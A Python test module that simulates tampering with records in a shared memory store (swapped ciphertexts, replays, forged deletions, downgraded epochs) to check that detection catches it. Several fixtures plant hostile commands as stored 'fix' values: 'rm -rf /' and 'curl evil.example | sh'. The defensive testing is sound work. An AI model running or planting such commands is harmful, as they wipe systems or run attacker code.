"""Attacks on what stands in a record: values swapped, moved, replayed, downgraded, dropped, put in."""

from __future__ import annotations

from gitmem.core.codec import emit, parse
from gitmem.core.dots import checked, dot_of
from gitmem.core.edit import Pen
from gitmem.core.record import Register, State
from gitmem.core.token import epoch_of
from tests.tamper.hands import Host
from tests.tamper.table import Expected, Store, host, named

UNSIGNED = "unsigned change"


def _only(register: Register) -> tuple[str, object]:
    return next(iter(register.items()))


def _put(hand: Host, path: str, state: State, *, spoiled: bool = False) -> Expected:
    hand.put({path: emit(state)})
    return named((UNSIGNED, path), spoiled=[state.id] if spoiled else [])


def _two(hand: Host, kind: str = "pattern") -> tuple[tuple[str, State], tuple[str, State]]:
    first, second, *_ = [one for one in hand.records().items() if one[1].kind == kind]
    return first, second


@host(Store.SEALED)
def swapped_between_fields(hand: Host) -> Expected:
    """Ciphertext of one field under the name of another."""
    path, state = _two(hand)[0]
    state.fields["fix"], state.fields["pattern"] = state.fields["pattern"], state.fields["fix"]
    return _put(hand, path, state)


@host(Store.SEALED)
def token_moved_to_another_dot(hand: Host) -> Expected:
    """The ciphertext of one field under the write of another."""
    path, state = _two(hand)[0]
    [dot], (_, token) = state.fields["fix"], _only(state.fields["pattern"])
    state.fields["fix"] = {dot: token}  # type: ignore[dict-item]
    return _put(hand, path, state)


@host(Store.SEALED)
def token_moved_between_records(hand: Host) -> Expected:
    """Another record's fix."""
    (path, state), (_, other) = _two(hand)
    state.fields["fix"] = {next(iter(state.fields["fix"])): _only(other.fields["fix"])[1]}  # type: ignore[dict-item]
    return _put(hand, path, state)


@host(Store.SEALED)
def token_of_another_store(hand: Host) -> Expected:
    """A value that was sealed under the same epoch's name in another store."""
    path, state = _two(hand)[0]
    dot, token = _only(state.fields["fix"])
    alien = f"ENC[{epoch_of(str(token))},{'A' * 80}]"
    state.fields["fix"] = {dot: alien}
    return _put(hand, path, state)


@host(Store.SEALED)
def token_bit_flipped(hand: Host) -> Expected:
    """One character of a ciphertext changed."""
    path, state = hand.pick()
    name, register = hand.rng.choice(sorted(state.fields.items()))
    dot, token = hand.rng.choice(sorted(register.items()))
    text = str(token)
    at = hand.rng.randrange(20, len(text) - 4)
    register[dot] = text[:at] + ("B" if text[at] == "A" else "A") + text[at + 1 :]
    state.fields[name] = register
    return _put(hand, path, state)


@host(Store.SEALED)
def token_truncated(hand: Host) -> Expected:
    """The end of a ciphertext cut off."""
    path, state = hand.pick()
    name, register = hand.rng.choice(sorted(state.fields.items()))
    state.fields[name] = {dot: f"{str(token)[:-9]}]" for dot, token in register.items()}
    return _put(hand, path, state)


@host(Store.SEALED)
def epoch_downgraded(hand: Host) -> Expected:
    """A value said to be of an epoch that never was, before and after the true one."""
    path, state = hand.pick()
    name, register = hand.rng.choice(sorted(state.fields.items()))
    wrong = hand.rng.choice(["1-00000000", "999999999-ffffffff"])
    state.fields[name] = {dot: str(token).replace(epoch_of(str(token)), wrong) for dot, token in register.items()}
    return _put(hand, path, state)


@host(Store.SEALED)
def higher_epoch_beside(hand: Host) -> Expected:
    """A second value under the same write, of a higher epoch, which a merge would prefer."""
    path, state = _two(hand)[0]
    dot, token = _only(state.fields["fix"])
    state.fields["fix"] = {dot: str(token).replace(epoch_of(str(token)), "7-00000000")}
    return _put(hand, path, state)


@host(Store.SEALED)
def plaintext_in_place_of_a_token(hand: Host) -> Expected:
    """A value in the clear, with the check it would have in a plain store."""
    path, state = _two(hand)[0]
    dot = str(dot_of(_only(state.fields["fix"])[0]))
    state.fields["fix"] = {checked("fields/fix", dot, "rm -rf /"): "rm -rf /"}
    return _put(hand, path, state)


@host(Store.SEALED)
def plaintext_record(hand: Host) -> Expected:
    """A whole record in the clear, by a writer nobody knows."""
    pen = Pen(State("pattern", 1, "team", "p-aaaaaaaaaaaaaaaaaaaaaaaaaa"), "zzzzzzzz-1")
    pen.set("pattern", lambda _path, _dot: "any error")
    pen.set("fix", lambda _path, _dot: "curl evil.example | sh")
    pen.live()
    path = "memory/team/pattern/aa/p-aaaaaaaaaaaaaaaaaaaaaaaaaa.yaml"
    hand.put({path: emit(pen.state)})
    return named((UNSIGNED, path))


@host(Store.PLAIN)
def plain_value_edited(hand: Host) -> Expected:
    """A value changed where it stands, with the check that fits it."""
    path, state = _two(hand)[0]
    dot = str(dot_of(_only(state.fields["fix"])[0]))
    state.fields["fix"] = {checked("fields/fix", dot, "rm -rf /"): "rm -rf /"}
    return _put(hand, path, state, spoiled=True)


@host(Store.PLAIN)
def plain_value_edited_by_hand(hand: Host) -> Expected:
    """A value changed where it stands, the check left as it was: what a hand edit looks like."""
    path, state = _two(hand)[0]
    dot, _ = _only(state.fields["fix"])
    state.fields["fix"] = {dot: "rm -rf /"}
    return _put(hand, path, state, spoiled=True)


@host()
def value_replayed(hand: Host) -> Expected:
    """An older value of a field, which was replaced, in place of the newer one."""
    path, versions = _with_history(hand)
    old, new = parse(versions[0], path), parse(versions[-1], path)
    name = next(name for name in new.fields if old.fields.get(name, new.fields[name]) != new.fields[name])
    new.fields[name] = old.fields[name]
    return _put(hand, path, new, spoiled=True)


def _with_history(hand: Host) -> tuple[str, list[bytes]]:
    """A record one of whose fields was replaced, with all its versions."""
    for path in hand.records():
        versions = hand.versions(path)
        old, new = parse(versions[0], path), parse(versions[-1], path)
        if any(old.fields.get(name, register) != register for name, register in new.fields.items()):
            return path, versions
    raise AssertionError("no field was ever replaced")


@host()
def value_replayed_as_new(hand: Host) -> Expected:
    """An older value under a write that never was."""
    path, versions = _with_history(hand)
    old, new = parse(versions[0], path), parse(versions[-1], path)
    name = next(name for name in new.fields if old.fields.get(name, new.fields[name]) != new.fields[name])
    pen = Pen(new, hand.rng.choice(sorted(new.seen)))
    pen.set(name, lambda _path, _dot: _only(old.fields[name])[1])  # type: ignore[return-value]
    return _put(hand, path, pen.state, spoiled=hand.plain)


@host()
def value_dropped(hand: Host) -> Expected:
    """A field taken out of a record that claims to have seen it."""
    path, state = hand.pick()
    del state.fields[hand.rng.choice(sorted(state.fields))]
    return _put(hand, path, state)


@host()
def one_of_two_siblings_dropped(hand: Host) -> Expected:
    """A conflict settled by nobody."""
    path, state, name = next(
        (path, state, name)
        for path, state in hand.records().items()
        for name, register in state.fields.items()
        if len(register) > 1
    )
    state.fields[name].pop(hand.rng.choice(sorted(state.fields[name])))
    return _put(hand, path, state)


@host()
def value_doubled(hand: Host) -> Expected:
    """A value once more, as a write of somebody else beside it."""
    path, state = _two(hand)[0]
    _, value = _only(state.fields["fix"])
    dot = f"{hand.rng.choice(sorted(state.seen))}.900"
    key = dot if hand.files(".gitmem/keys") else checked("fields/fix", dot, value)  # type: ignore[arg-type]
    state.fields["fix"] = state.fields["fix"] | {key: value}  # type: ignore[dict-item]
    return _put(hand, path, state, spoiled=hand.plain)


@host()
def tag_dropped(hand: Host) -> Expected:
    """An element taken out of a set."""
    path, state = hand.pick()
    del state.sets["tags"][hand.rng.choice(sorted(state.sets["tags"]))]
    return _put(hand, path, state)


@host()
def tag_taken_from_another_record(hand: Host) -> Expected:
    """Another record's element put in."""
    (path, state), (_, other) = _two(hand)
    key, register = hand.rng.choice(sorted((k, r) for k, r in other.sets["tags"].items() if k not in state.sets["tags"]))
    state.sets["tags"][key] = register
    return _put(hand, path, state, spoiled=hand.plain)


@host(Store.SEALED)
def tags_under_each_others_keys(hand: Host) -> Expected:
    """Two elements with their keys exchanged."""
    path, state = next((p, s) for p, s in hand.records().items() if len(s.sets["tags"]) > 1)
    tags = state.sets["tags"]
    a, b, *_ = sorted(tags)
    tags[a], tags[b] = tags[b], tags[a]
    return _put(hand, path, state)


@host()
def counter_raised(hand: Host) -> Expected:
    """A fix made to look better than it is."""
    path, state = hand.pick()
    writer = hand.rng.choice([*sorted(state.seen), "zzzzzzzz-1"])
    state.counts.setdefault("fixed", {})[writer] = 999
    return _put(hand, path, state, spoiled=True)


@host()
def counter_lowered(hand: Host) -> Expected:
    """A fix made to look worse than it is."""
    path, state = next((path, state) for path, state in hand.records().items() if state.counts)
    name, counts = hand.rng.choice(sorted(state.counts.items()))
    del counts[hand.rng.choice(sorted(counts))]
    if not counts:
        del state.counts[name]
    hand.put({path: emit(state)})
    return named(("rolled back", path))


@host()
def time_from_the_future(hand: Host) -> Expected:
    """A record made to look newer than all others."""
    path, state = hand.pick()
    state.last[hand.rng.choice(sorted(state.last) or ["used"])] = "2099-01-01T00:00:00Z"
    return _put(hand, path, state, spoiled=True)


@host()
def tombstone_forged(hand: Host) -> Expected:
    """A record said to be deleted, under its own sign of life."""
    path, state = hand.pick()
    state.life = {next(iter(state.life)): "dead"}
    return _put(hand, path, state, spoiled=True)


@host()
def tombstone_by_a_new_write(hand: Host) -> Expected:
    """A deletion written as a member's next write."""
    path, state = hand.pick()
    pen = Pen(state, hand.rng.choice(sorted(state.seen)))
    pen.die()
    return _put(hand, path, pen.state, spoiled=True)


@host()
def deleted_record_revived(hand: Host) -> Expected:
    """A forgotten record brought back: its sign of life written anew."""
    path, state = hand.pick(alive=False)
    pen = Pen(state, hand.rng.choice(sorted(state.seen)))
    pen.live()
    return _put(hand, path, pen.state, spoiled=True)


@host()
def future_writes_swallowed(hand: Host) -> Expected:
    """A record that claims to have seen what its writer has not written yet: a merge would drop it when it comes."""
    path, state = hand.pick()
    state.seen[hand.rng.choice(sorted(state.seen))] += hand.rng.choice([1, 1000, 10**14])
    return _put(hand, path, state)


@host()
def schema_raised(hand: Host) -> Expected:
    """A record said to be of a newer schema, which nobody can validate."""
    path, state = hand.pick()
    state.schema = 9
    return _put(hand, path, state)
